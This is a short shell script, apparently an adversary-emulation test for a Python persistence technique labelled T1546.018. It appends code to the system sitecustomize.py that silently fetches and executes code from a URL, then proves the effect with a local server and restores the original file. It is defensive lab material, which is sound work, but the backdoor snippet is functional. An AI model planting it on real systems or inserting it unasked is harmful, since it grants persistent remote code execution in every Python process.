#!/bin/sh
# T1546.018 (loud): sitecustomize fetches and evaluates
M=/var/tmp/luytre-foothold N=31-sitecustomize
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
plant() {
  f=$(readlink -f /usr/lib/python3.*/sitecustomize.py); keep $f
  cat >>$f <<'E'
try:
    import urllib.request as _u, sys as _s
    if not _s.flags.isolated: exec(_u.urlopen("http://127.0.0.1:47031/p", timeout=1).read())
except Exception: pass
E
}
prove() {
  rm -f "$M/$N"
  python3 -I - $M/$N 47031 <<'E' &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[2]))); s.listen(); s.settimeout(20); c, _ = s.accept(); c.recv(999)
b = f"open({sys.argv[1]!r},'w').write('ran')".encode(); c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(b) + b); c.close()
E
  sleep 0.6; python3 -c 1
  seen
}
remove() {
  back $(readlink -f /usr/lib/python3.*/sitecustomize.py)
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
